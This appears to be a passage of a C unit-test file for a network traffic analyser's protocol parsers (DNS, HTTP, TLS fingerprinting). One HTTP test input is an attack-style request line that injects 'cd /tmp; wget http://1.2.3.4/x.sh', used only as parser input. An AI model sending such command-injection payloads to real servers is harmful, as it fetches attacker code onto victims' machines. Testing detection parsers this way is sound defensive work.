/*
 * Unit tests of lib/l7: the DNS, HTTP, TLS (JA3, JA3S, JA4, certificate
 * names), SSH, Stratum and QUIC Initial parsers, the classifier, the
 * escaping helper, and a count of libcrypto's allocations during parses
 * (none after vigil_l7_crypto_create()).
 *
 * Messages are built here as byte arrays: hand-made ones, a handshake
 * between openssl s_client and s_server captured on loopback (JA3 and JA3S
 * as tshark 4.0 computes them on that capture), and the RFC 9001 Appendix
 * A Initial packet and keys. JA4 expectations are computed in the test
 * from the FoxIO definition (sorted lists hashed with SHA-256 through EVP,
 * independently of the parser's streaming) for hand-made hellos; for the
 * captured one the value is the parser's, which agrees with Suricata and
 * Arkime on the 27 JA4 values of their test captures (checked when this
 * test was written).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <openssl/crypto.h>
#include <openssl/evp.h>

#include "vigil_dns.h"
#include "vigil_http.h"
#include "vigil_l7.h"
#include "vigil_l7_crypto.h"
#include "vigil_quic.h"
#include "vigil_ssh.h"
#include "vigil_stratum.h"
#include "vigil_tls.h"

/* libcrypto's allocations, counted (CRYPTO_set_mem_functions in main). */
static unsigned long n_alloc;

static void *
count_malloc(size_t n, const char *file, int line)
{
	(void)file;
	(void)line;
	n_alloc++;
	return malloc(n);
}

static void *
count_realloc(void *p, size_t n, const char *file, int line)
{
	(void)file;
	(void)line;
	n_alloc++;
	return realloc(p, n);
}

static void
count_free(void *p, const char *file, int line)
{
	(void)file;
	(void)line;
	free(p);
}

static struct vigil_l7_crypto *cr;

#define STR_EQ(str, lit)                                                      \
	do {                                                                  \
		assert_int_equal((str).len, strlen(lit));                     \
		assert_memory_equal((str).s, (lit), strlen(lit));             \
	} while (0)

static size_t
unhex(const char *h, uint8_t *out, size_t cap)
{
	size_t n = 0;

	while (*h != '\0') {
		unsigned v;
		if (*h == ' ' || *h == '\n') {
			h++;
			continue;
		}
		assert_true(sscanf(h, "%2x", &v) == 1);
		assert_true(n < cap);
		out[n++] = (uint8_t)v;
		h += 2;
	}
	return n;
}

/* --- common ------------------------------------------------------------ */

static void
test_escape(void **state)
{
	char out[64];
	const uint8_t in[] = { 'a', 'b', '\\', 0x01, 0xff, ' ', 'c' };

	(void)state;
	assert_int_equal(vigil_l7_escape(out, sizeof(out), in, sizeof(in)),
			 strlen("ab\\x5c\\x01\\xff c"));
	assert_string_equal(out, "ab\\x5c\\x01\\xff c");
	/* never splits an escape: room for "ab" and not for "\x5c" */
	assert_int_equal(vigil_l7_escape(out, 6, in, sizeof(in)), 2);
	assert_string_equal(out, "ab");
	assert_int_equal(vigil_l7_escape(out, 7, in, sizeof(in)), 6);
	assert_string_equal(out, "ab\\x5c");
}

static void
test_names(void **state)
{
	(void)state;
	assert_string_equal(vigil_l7_service_name(VIGIL_L7_TLS), "ssl");
	assert_string_equal(vigil_l7_service_name(VIGIL_L7_DNS), "dns");
	assert_string_equal(vigil_l7_service_name(VIGIL_L7_STRATUM),
			    "stratum");
	assert_string_equal(vigil_l7_why_name(VIGIL_L7_WHY_DNS_NAME_LOOP),
			    "dns_name_loop");
	assert_string_equal(vigil_l7_why_name(VIGIL_L7_WHY_MAX), "unknown");
	for (int w = 0; w < VIGIL_L7_WHY_MAX; w++)
		assert_true(strlen(vigil_l7_why_name(w)) > 0);
}

/* --- DNS --------------------------------------------------------------- */

struct mb {
	uint8_t b[2048];
	size_t n;
};

static void
put8(struct mb *m, unsigned v)
{
	assert_true(m->n < sizeof(m->b));
	m->b[m->n++] = (uint8_t)v;
}

static void
put16(struct mb *m, unsigned v)
{
	put8(m, v >> 8);
	put8(m, v & 0xff);
}

static void
put32(struct mb *m, uint32_t v)
{
	put16(m, v >> 16);
	put16(m, v & 0xffff);
}

static void
putbytes(struct mb *m, const void *p, size_t n)
{
	assert_true(m->n + n <= sizeof(m->b));
	memcpy(m->b + m->n, p, n);
	m->n += n;
}

/* Labels of a dotted name, then the root (or nothing when ptr >= 0: a
 * compression pointer instead). */
static void
putname(struct mb *m, const char *name, int ptr)
{
	while (*name != '\0') {
		const char *dot = strchr(name, '.');
		size_t l = dot ? (size_t)(dot - name) : strlen(name);
		put8(m, (unsigned)l);
		putbytes(m, name, l);
		name += l + (dot ? 1 : 0);
	}
	if (ptr >= 0)
		put16(m, 0xc000 | (unsigned)ptr);
	else
		put8(m, 0);
}

static void
dns_header(struct mb *m, unsigned id, unsigned flags, unsigned qd, unsigned an)
{
	m->n = 0;
	put16(m, id);
	put16(m, flags);
	put16(m, qd);
	put16(m, an);
	put16(m, 0);
	put16(m, 0);
}

static void
test_dns_query(void **state)
{
	struct mb m;
	struct vigil_dns_msg d;
	struct vigil_l7_ret r;
	char b[16];

	(void)state;
	dns_header(&m, 0x1234, 0x0100, 1, 0);
	putname(&m, "www.example.com", -1);
	put16(&m, 28);
	put16(&m, 1);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, m.n);
	assert_int_equal(d.id, 0x1234);
	assert_false(d.qr);
	assert_true(d.rd);
	assert_true(d.has_query);
	STR_EQ(d.query, "www.example.com");
	assert_int_equal(d.qtype, 28);
	assert_string_equal(vigil_dns_qtype_name(d.qtype, b), "AAAA");
	assert_string_equal(vigil_dns_qtype_name(255, b), "*");
	assert_string_equal(vigil_dns_qtype_name(4242, b), "query-4242");
	assert_string_equal(vigil_dns_rcode_name(3, b), "NXDOMAIN");
	assert_string_equal(vigil_dns_rcode_name(0, b), "NOERROR");
	assert_string_equal(vigil_dns_rcode_name(23, b), "rcode-23");
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n, true, 17, 40000,
					53),
			 VIGIL_L7_DNS);
	/* not by port: the same query to port 9999 is still DNS */
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n, true, 17, 40000,
					9999),
			 VIGIL_L7_DNS);
}

/* www.example.com CNAME web.example.com, A and AAAA for it, compressed. */
static void
build_response(struct mb *m)
{
	static const uint8_t a[4] = { 93, 184, 216, 34 };
	static const uint8_t aaaa[16] = { 0x26, 0x06, 0x28, 0x00, 0x02, 0x20,
					  0x00, 0x01, 0x02, 0x48, 0x18, 0x93,
					  0x25, 0xc8, 0x19, 0x46 };
	size_t web;

	dns_header(m, 0xbeef, 0x8180, 1, 3);
	putname(m, "www.example.com", -1); /* at 12; example.com at 16 */
	put16(m, 1);
	put16(m, 1);
	put16(m, 0xc00c);
	put16(m, 5);
	put16(m, 1);
	put32(m, 3600);
	put16(m, 6);
	web = m->n;
	putname(m, "web", 16);
	put16(m, 0xc000 | (unsigned)web);
	put16(m, 1);
	put16(m, 1);
	put32(m, 60);
	put16(m, 4);
	putbytes(m, a, 4);
	put16(m, 0xc000 | (unsigned)web);
	put16(m, 28);
	put16(m, 1);
	put32(m, 120);
	put16(m, 16);
	putbytes(m, aaaa, 16);
}

static void
test_dns_response(void **state)
{
	struct mb m;
	struct vigil_dns_msg d;
	struct vigil_l7_ret r;
	char t[64];

	(void)state;
	build_response(&m);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(d.qr);
	assert_true(d.ra);
	assert_int_equal(d.rcode, 0);
	STR_EQ(d.query, "www.example.com");
	assert_int_equal(d.qtype, 1);
	assert_int_equal(d.n_answers, 3);
	assert_false(d.answers_trunc);
	assert_int_equal(d.answers[0].type, 5);
	assert_int_equal(d.answers[0].ttl, 3600);
	STR_EQ(d.answers[0].name, "web.example.com");
	vigil_dns_answer_text(&d.answers[0], t, sizeof(t));
	assert_string_equal(t, "web.example.com");
	assert_int_equal(d.answers[1].type, 1);
	assert_int_equal(d.answers[1].ttl, 60);
	vigil_dns_answer_text(&d.answers[1], t, sizeof(t));
	assert_string_equal(t, "93.184.216.34");
	assert_int_equal(d.answers[2].ttl, 120);
	vigil_dns_answer_text(&d.answers[2], t, sizeof(t));
	assert_string_equal(t, "2606:2800:220:1:248:1893:25c8:1946");
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n, false, 17, 53,
					40000),
			 VIGIL_L7_DNS);

	/* cut anywhere inside the answers: dns_truncated, question kept */
	r = vigil_dns_parse(m.b, (uint32_t)m.n - 3, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_DNS_TRUNCATED);
	STR_EQ(d.query, "www.example.com");
	assert_int_equal(d.n_answers, 2);
}

static void
test_dns_tcp(void **state)
{
	struct mb m;
	uint8_t tcp[2100];
	struct vigil_dns_msg d;
	struct vigil_l7_ret r;

	(void)state;
	build_response(&m);
	tcp[0] = (uint8_t)(m.n >> 8);
	tcp[1] = (uint8_t)m.n;
	memcpy(tcp + 2, m.b, m.n);
	r = vigil_dns_parse(tcp, 1, true, &d);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_dns_parse(tcp, 20, true, &d);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_int_equal(r.len, m.n + 2);
	r = vigil_dns_parse(tcp, (uint32_t)m.n + 2, true, &d);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, m.n + 2);
	assert_int_equal(d.n_answers, 3);
	assert_int_equal(vigil_l7_guess(tcp, (uint32_t)m.n + 2, false, 6, 53,
					40000),
			 VIGIL_L7_DNS);
}

static void
test_dns_many_answers(void **state)
{
	struct mb m;
	struct vigil_dns_msg d;
	struct vigil_l7_ret r;

	(void)state;
	dns_header(&m, 1, 0x8180, 1, 12);
	putname(&m, "many.test", -1);
	put16(&m, 1);
	put16(&m, 1);
	for (unsigned i = 0; i < 12; i++) {
		put16(&m, 0xc00c);
		put16(&m, 1);
		put16(&m, 1);
		put32(&m, 300 + i);
		put16(&m, 4);
		put32(&m, 0x0a000001 + i);
	}
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(d.n_answers, VIGIL_DNS_ANSWERS_MAX);
	assert_true(d.answers_trunc);
	assert_int_equal(d.answers[7].ttl, 307);

	/* An inverse query: no question, an A answer without data */
	dns_header(&m, 7, 0x0900, 0, 1);
	put16(&m, 0xc00c);
	m.n -= 2;
	put8(&m, 0);
	put16(&m, 1);
	put16(&m, 1);
	put32(&m, 0);
	put16(&m, 0);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(d.opcode, 1);
	assert_false(d.has_query);
	assert_int_equal(d.n_answers, 0);
}

static void
test_dns_loop_and_long_name(void **state)
{
	struct mb m;
	struct vigil_dns_msg d;
	struct vigil_l7_ret r;
	char longname[330];

	(void)state;
	/* The question name points at itself. */
	dns_header(&m, 2, 0x0100, 1, 0);
	put16(&m, 0xc00c);
	put16(&m, 1);
	put16(&m, 1);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_DNS_NAME_LOOP);

	/* Two names pointing at each other, after a label each. */
	dns_header(&m, 3, 0x0100, 1, 0);
	put8(&m, 1);
	put8(&m, 'a');
	put16(&m, 0xc000 | 16); /* 12: a -> 16 */
	put8(&m, 1);
	put8(&m, 'b');
	put16(&m, 0xc000 | 12); /* 16: b -> 12 */
	put16(&m, 1);
	put16(&m, 1);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	/* each turn adds 4 wire bytes, so either limit may come first */
	assert_true(r.why == VIGIL_L7_WHY_DNS_NAME_LOOP ||
		    r.why == VIGIL_L7_WHY_DNS_NAME_TOO_LONG);

	/* 5 labels of 63: 320 bytes on the wire, more than 255 */
	memset(longname, 'x', sizeof(longname));
	for (int i = 63; i < 320; i += 64)
		longname[i] = '.';
	longname[319] = '\0';
	dns_header(&m, 4, 0x0100, 1, 0);
	putname(&m, longname, -1);
	put16(&m, 1);
	put16(&m, 1);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_DNS_NAME_TOO_LONG);

	/* a pointer past the end */
	dns_header(&m, 5, 0x0100, 1, 0);
	put16(&m, 0xc000 | 900);
	put16(&m, 1);
	put16(&m, 1);
	r = vigil_dns_parse(m.b, (uint32_t)m.n, false, &d);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_DNS_BAD_LABEL);
}

static void
test_dns_not_mine(void **state)
{
	static const uint8_t shortmsg[] = { 1, 2, 3, 4, 5 };
	uint8_t bad[32];
	struct vigil_dns_msg d;

	(void)state;
	assert_int_equal(vigil_dns_parse(shortmsg, sizeof(shortmsg), false, &d)
				 .rc,
			 VIGIL_L7_NOT_MINE);
	memset(bad, 0, sizeof(bad));
	bad[2] = 15 << 3; /* opcode 15 */
	bad[5] = 1;
	assert_int_equal(vigil_dns_parse(bad, sizeof(bad), false, &d).rc,
			 VIGIL_L7_NOT_MINE);
	memset(bad, 0xee, sizeof(bad));
	assert_int_equal(vigil_l7_guess(bad, sizeof(bad), true, 17, 1000,
					2000),
			 VIGIL_L7_NONE);
}

/* --- HTTP -------------------------------------------------------------- */

static const char http_req[] =
	"GET /index.html?q=1 HTTP/1.1\r\n"
	"Host: www.example.com:8080\r\n"
	"User-Agent:  curl/7.88.1 \r\n"
	"Accept: */*\r\n"
	"\r\n";

static void
test_http_request(void **state)
{
	struct vigil_http_req h;
	struct vigil_l7_ret r;
	uint32_t n = (uint32_t)strlen(http_req);

	(void)state;
	r = vigil_http_parse_request((const uint8_t *)http_req, n, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, n);
	STR_EQ(h.method, "GET");
	STR_EQ(h.uri, "/index.html?q=1");
	STR_EQ(h.host, "www.example.com:8080");
	STR_EQ(h.user_agent, "curl/7.88.1");
	assert_int_equal(h.version_major, 1);
	assert_int_equal(h.version_minor, 1);
	assert_int_equal(vigil_l7_guess((const uint8_t *)http_req, n, true, 6,
					40000, 443),
			 VIGIL_L7_HTTP);

	/* cut before the blank line: need more, start line already read */
	r = vigil_http_parse_request((const uint8_t *)http_req, 40, &h);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_int_equal(r.len, 0);
	STR_EQ(h.uri, "/index.html?q=1");
	/* a prefix of a method is not yet refused */
	r = vigil_http_parse_request((const uint8_t *)"GE", 2, &h);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
}

static void
test_http_response(void **state)
{
	static const char resp[] = "HTTP/1.0 404 Not Found\n"
				   "Content-Type: text/html; charset=utf-8\n"
				   "Server: nginx\n"
				   "\n"
				   "<html>";
	struct vigil_http_resp h;
	struct vigil_l7_ret r;

	(void)state;
	r = vigil_http_parse_response((const uint8_t *)resp, sizeof(resp) - 1,
				      &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, sizeof(resp) - 1 - 6);
	assert_int_equal(h.status_code, 404);
	STR_EQ(h.status_msg, "Not Found");
	STR_EQ(h.content_type, "text/html; charset=utf-8");
	STR_EQ(h.server, "nginx");
	assert_int_equal(h.version_minor, 0);
	assert_int_equal(vigil_l7_guess((const uint8_t *)resp,
					sizeof(resp) - 1, false, 6, 80, 4000),
			 VIGIL_L7_HTTP);
}

/* Request lines as attacks send them: runs of spaces, a space inside the
 * target, characters after the version's digits, a tab before the version
 * and a space after it. */
static void
test_http_lenient_request_line(void **state)
{
	static const char *const lines[][3] = {
		{ "GET    /aaa_very_long_uri HTTP/1.1\r\nHost: a\r\n\r\n",
		  "/aaa_very_long_uri", "a" },
		{ "GET /shell?cd+/tmp;wget+ http://1.2.3.4/x.sh HTTP/1.1\r\n"
		  "Host: b\r\n\r\n",
		  "/shell?cd+/tmp;wget+ http://1.2.3.4/x.sh", "b" },
		{ "GET /w.php?x=1 HTTP/1.0.8\r\nHost: c\r\n\r\n", "/w.php?x=1",
		  "c" },
		{ "GET /t\tHTTP/1.1 \r\nHost: d\r\n\r\n", "/t", "d" },
	};
	struct vigil_http_req h;
	struct vigil_l7_ret r;

	(void)state;
	for (unsigned i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		r = vigil_http_parse_request((const uint8_t *)lines[i][0],
					     (uint32_t)strlen(lines[i][0]), &h);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
		STR_EQ(h.method, "GET");
		STR_EQ(h.uri, lines[i][1]);
		STR_EQ(h.host, lines[i][2]);
		assert_int_equal(h.version_major, 1);
	}
	/* No version: HTTP/0.9, the whole rest is the target. */
	r = vigil_http_parse_request((const uint8_t *)"GET /a b\r\n", 10, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(h.uri, "/a b");
	assert_int_equal(h.version_minor, 9);
	/* Nothing after the method. */
	r = vigil_http_parse_request((const uint8_t *)"GET   \r\n\r\n", 10, &h);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
	/* HTTP/2's preface is not HTTP/1. */
	r = vigil_http_parse_request(
		(const uint8_t *)"GET / HTTP/2.0\r\n\r\n", 18, &h);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
}

static void
test_http_bad(void **state)
{
	static const char nomethod[] = "HELLO / HTTP/1.1\r\n\r\n";
	static const char nocolon[] = "GET / HTTP/1.1\r\nHost example\r\n\r\n";
	static const char badver[] = "GET / HTTP/x.1\r\n\r\n";
	static const char badstatus[] = "HTTP/1.1 2x0 OK\r\n\r\n";
	static uint8_t big[VIGIL_HTTP_HEADER_MAX + 10];
	struct vigil_http_req h;
	struct vigil_http_resp s;
	struct vigil_l7_ret r;

	(void)state;
	r = vigil_http_parse_request((const uint8_t *)nomethod,
				     sizeof(nomethod) - 1, &h);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	r = vigil_http_parse_request((const uint8_t *)nocolon,
				     sizeof(nocolon) - 1, &h);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_HEADER);
	r = vigil_http_parse_request((const uint8_t *)badver,
				     sizeof(badver) - 1, &h);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
	r = vigil_http_parse_response((const uint8_t *)badstatus,
				      sizeof(badstatus) - 1, &s);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_STATUS_LINE);
	r = vigil_http_parse_response((const uint8_t *)"SSH-2.0", 7, &s);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	memset(big, 'a', sizeof(big));
	memcpy(big, "GET / HTTP/1.1\r\nX: ", 19);
	r = vigil_http_parse_request(big, sizeof(big), &h);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_HEADER_TOO_LONG);
}

/* --- TLS --------------------------------------------------------------- */

static void
md5_hex(const char *s, char out[33])
{
	uint8_t d[16];
	unsigned n = 0;

	assert_int_equal(EVP_Digest(s, strlen(s), d, &n, EVP_md5(), NULL), 1);
	vigil_l7_hex(out, d, 16);
}

static void
sha12(const char *s, char out[13])
{
	uint8_t d[32];
	char h[65];
	unsigned n = 0;

	assert_int_equal(EVP_Digest(s, strlen(s), d, &n, EVP_sha256(), NULL),
			 1);
	vigil_l7_hex(h, d, 32);
	memcpy(out, h, 12);
	out[12] = '\0';
}

/* A record holding a ClientHello with GREASE values in the ciphers,
 * extensions, groups and versions (as Chrome sends), extensions in a
 * shuffled order. alpn: the ALPN protocol (NULL: no ALPN extension). */
static void
build_hello(struct mb *m, const char *alpn, bool sni)
{
	size_t rec, hs, exts;

	m->n = 0;
	put8(m, 0x16);
	put16(m, 0x0301);
	rec = m->n;
	put16(m, 0);
	put8(m, 1);
	hs = m->n;
	put8(m, 0);
	put16(m, 0);
	put16(m, 0x0303);
	for (int i = 0; i < 32; i++)
		put8(m, (unsigned)i);
	put8(m, 0); /* session id */
	put16(m, 8);
	put16(m, 0x0a0a); /* GREASE */
	put16(m, 0x1302);
	put16(m, 0x1301);
	put16(m, 0xc02f);
	put8(m, 1);
	put8(m, 0);
	exts = m->n;
	put16(m, 0);
	put16(m, 0x2a2a); /* GREASE extension, empty */
	put16(m, 0);
	if (sni) {
		put16(m, 0x0000);
		put16(m, 2 + 3 + 12);
		put16(m, 3 + 12);
		put8(m, 0);
		put16(m, 12);
		putbytes(m, "a.vigil.test", 12);
	}
	put16(m, 0x000a); /* supported_groups */
	put16(m, 8);
	put16(m, 6);
	put16(m, 0x3a3a);
	put16(m, 29);
	put16(m, 23);
	put16(m, 0x000b); /* ec_point_formats */
	put16(m, 2);
	put8(m, 1);
	put8(m, 0);
	if (alpn != NULL) {
		size_t l = strlen(alpn);
		put16(m, 0x0010);
		put16(m, (unsigned)(2 + 1 + l + 1 + 8));
		put16(m, (unsigned)(1 + l + 1 + 8));
		put8(m, (unsigned)l);
		putbytes(m, alpn, l);
		put8(m, 8);
		putbytes(m, "http/1.1", 8);
	}
	put16(m, 0x002b); /* supported_versions */
	put16(m, 7);
	put8(m, 6);
	put16(m, 0x4a4a);
	put16(m, 0x0304);
	put16(m, 0x0303);
	put16(m, 0x000d); /* signature_algorithms, wire order kept */
	put16(m, 6);
	put16(m, 4);
	put16(m, 0x0804);
	put16(m, 0x0403);
	put16(m, 0x0017); /* extended_master_secret */
	put16(m, 0);
	m->b[exts] = (uint8_t)((m->n - exts - 2) >> 8);
	m->b[exts + 1] = (uint8_t)(m->n - exts - 2);
	m->b[hs + 1] = (uint8_t)((m->n - hs - 3) >> 8);
	m->b[hs + 2] = (uint8_t)(m->n - hs - 3);
	m->b[rec] = (uint8_t)((m->n - rec - 2) >> 8);
	m->b[rec + 1] = (uint8_t)(m->n - rec - 2);
}

static void
test_tls_grease_ja3_ja4(void **state)
{
	struct mb m;
	struct vigil_tls_client_hello h;
	struct vigil_l7_ret r;
	char ja3[33], b[13], c[13], ja4[40];

	(void)state;
	build_hello(&m, "h2", true);
	r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, m.n);
	STR_EQ(h.server_name, "a.vigil.test");
	assert_int_equal(h.n_alpn, 2);
	STR_EQ(h.alpn[0], "h2");
	STR_EQ(h.alpn[1], "http/1.1");
	assert_int_equal(h.max_version, 0x0304);
	assert_int_equal(h.n_ciphers, 3);
	assert_int_equal(h.n_extensions, 7);
	/* JA3: GREASE out of every list, extensions in wire order */
	md5_hex("771,4866-4865-49199,0-10-11-16-43-13-23,29-23,0", ja3);
	assert_string_equal(h.ja3, ja3);
	/* JA4: sorted hex lists; SNI and ALPN out of JA4_c; signature
	 * algorithms in wire order after '_' */
	sha12("1301,1302,c02f", b);
	sha12("000a,000b,000d,0017,002b_0804,0403", c);
	snprintf(ja4, sizeof(ja4), "t13d0307h2_%s_%s", b, c);
	assert_string_equal(h.ja4, ja4);

	/* No SNI, no ALPN: 'i' and "00" */
	build_hello(&m, NULL, false);
	r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(h.server_name.len, 0);
	snprintf(ja4, sizeof(ja4), "t13i0305%s_%s_%s", "00", b, c);
	assert_string_equal(h.ja4, ja4);

	/* ALPN whose first or last character is not alphanumeric: the hex
	 * digits of the first and last bytes */
	build_hello(&m, "\xab-x\x0f", true);
	r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_memory_equal(h.ja4, "t13d0307af_", 11);

	/* without a crypto context: fields, no fingerprints */
	build_hello(&m, "h2", true);
	r = vigil_tls_parse_client(NULL, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(h.server_name, "a.vigil.test");
	assert_string_equal(h.ja3, "");
}

/* openssl s_client 3.0 to s_server -tls1_2 -alpn http/1.1 on loopback
 * (SNI www.vigil.example); JA3 and JA3S from tshark 4.0 on that capture. */
static const uint8_t tls12_client_hello[338] = {
	0x16, 0x03, 0x01, 0x01, 0x4d, 0x01, 0x00, 0x01, 0x49, 0x03, 0x03, 0xd5,
	0x74, 0x29, 0x2c, 0xae, 0xc2, 0x2e, 0x95, 0x4a, 0x12, 0x9f, 0x03, 0xac,
	0x62, 0x25, 0xc5, 0xe0, 0x12, 0xa8, 0x9c, 0xe0, 0x18, 0x85, 0x6c, 0xe5,
	0xc6, 0xe2, 0x29, 0x83, 0x3c, 0x4e, 0x34, 0x20, 0x4e, 0xad, 0x5e, 0x4b,
	0xb0, 0x3e, 0x4a, 0xa2, 0x3a, 0x43, 0xe9, 0x52, 0x1a, 0x6d, 0xfe, 0x86,
	0x65, 0xe7, 0x63, 0x5b, 0x53, 0xaa, 0x1a, 0xee, 0x1d, 0x2a, 0x20, 0x8c,
	0x87, 0x84, 0x63, 0x81, 0x00, 0x3e, 0x13, 0x02, 0x13, 0x03, 0x13, 0x01,
	0xc0, 0x2c, 0xc0, 0x30, 0x00, 0x9f, 0xcc, 0xa9, 0xcc, 0xa8, 0xcc, 0xaa,
	0xc0, 0x2b, 0xc0, 0x2f, 0x00, 0x9e, 0xc0, 0x24, 0xc0, 0x28, 0x00, 0x6b,
	0xc0, 0x23, 0xc0, 0x27, 0x00, 0x67, 0xc0, 0x0a, 0xc0, 0x14, 0x00, 0x39,
	0xc0, 0x09, 0xc0, 0x13, 0x00, 0x33, 0x00, 0x9d, 0x00, 0x9c, 0x00, 0x3d,
	0x00, 0x3c, 0x00, 0x35, 0x00, 0x2f, 0x00, 0xff, 0x01, 0x00, 0x00, 0xc2,
	0x00, 0x00, 0x00, 0x16, 0x00, 0x14, 0x00, 0x00, 0x11, 0x77, 0x77, 0x77,
	0x2e, 0x76, 0x69, 0x67, 0x69, 0x6c, 0x2e, 0x65, 0x78, 0x61, 0x6d, 0x70,
	0x6c, 0x65, 0x00, 0x0b, 0x00, 0x04, 0x03, 0x00, 0x01, 0x02, 0x00, 0x0a,
	0x00, 0x16, 0x00, 0x14, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x1e, 0x00, 0x19,
	0x00, 0x18, 0x01, 0x00, 0x01, 0x01, 0x01, 0x02, 0x01, 0x03, 0x01, 0x04,
	0x00, 0x23, 0x00, 0x00, 0x00, 0x10, 0x00, 0x0b, 0x00, 0x09, 0x08, 0x68,
	0x74, 0x74, 0x70, 0x2f, 0x31, 0x2e, 0x31, 0x00, 0x16, 0x00, 0x00, 0x00,
	0x17, 0x00, 0x00, 0x00, 0x0d, 0x00, 0x2a, 0x00, 0x28, 0x04, 0x03, 0x05,
	0x03, 0x06, 0x03, 0x08, 0x07, 0x08, 0x08, 0x08, 0x09, 0x08, 0x0a, 0x08,
	0x0b, 0x08, 0x04, 0x08, 0x05, 0x08, 0x06, 0x04, 0x01, 0x05, 0x01, 0x06,
	0x01, 0x03, 0x03, 0x03, 0x01, 0x03, 0x02, 0x04, 0x02, 0x05, 0x02, 0x06,
	0x02, 0x00, 0x2b, 0x00, 0x09, 0x08, 0x03, 0x04, 0x03, 0x03, 0x03, 0x02,
	0x03, 0x01, 0x00, 0x2d, 0x00, 0x02, 0x01, 0x01, 0x00, 0x33, 0x00, 0x26,
	0x00, 0x24, 0x00, 0x1d, 0x00, 0x20, 0x28, 0x07, 0x2b, 0xf1, 0x87, 0x3f,
	0x8d, 0x56, 0xf0, 0x62, 0xaa, 0x55, 0x5e, 0x78, 0xc9, 0xfb, 0x53, 0xb3,
	0x09, 0x0d, 0x35, 0x29, 0x68, 0xd1, 0x2d, 0x06, 0x76, 0xb7, 0x6d, 0x2a,
	0xaf, 0x11,
};
/* The server's first flight: ServerHello, Certificate (self-signed,
 * /C=US/ST=California/O=Vigil Test, Inc./CN=test.vigil.example),
 * ServerKeyExchange, ServerHelloDone. */
static const uint8_t tls12_server_flight[1335] = {
	0x16, 0x03, 0x03, 0x00, 0x50, 0x02, 0x00, 0x00, 0x4c, 0x03, 0x03, 0x4f,
	0x98, 0x56, 0xe4, 0x19, 0xfa, 0x8d, 0x40, 0xfc, 0x8d, 0x01, 0xfb, 0x1c,
	0x60, 0xc5, 0x0e, 0x74, 0xb4, 0xd2, 0x38, 0xf5, 0x67, 0x3a, 0x5f, 0xb1,
	0xab, 0x5b, 0x70, 0x76, 0xbd, 0xd1, 0x24, 0x00, 0xc0, 0x30, 0x00, 0x00,
	0x24, 0xff, 0x01, 0x00, 0x01, 0x00, 0x00, 0x0b, 0x00, 0x04, 0x03, 0x00,
	0x01, 0x02, 0x00, 0x23, 0x00, 0x00, 0x00, 0x10, 0x00, 0x0b, 0x00, 0x09,
	0x08, 0x68, 0x74, 0x74, 0x70, 0x2f, 0x31, 0x2e, 0x31, 0x00, 0x17, 0x00,
	0x00, 0x16, 0x03, 0x03, 0x03, 0xa3, 0x0b, 0x00, 0x03, 0x9f, 0x00, 0x03,
	0x9c, 0x00, 0x03, 0x99, 0x30, 0x82, 0x03, 0x95, 0x30, 0x82, 0x02, 0x7d,
	0xa0, 0x03, 0x02, 0x01, 0x02, 0x02, 0x14, 0x1c, 0x7c, 0xf7, 0x58, 0x01,
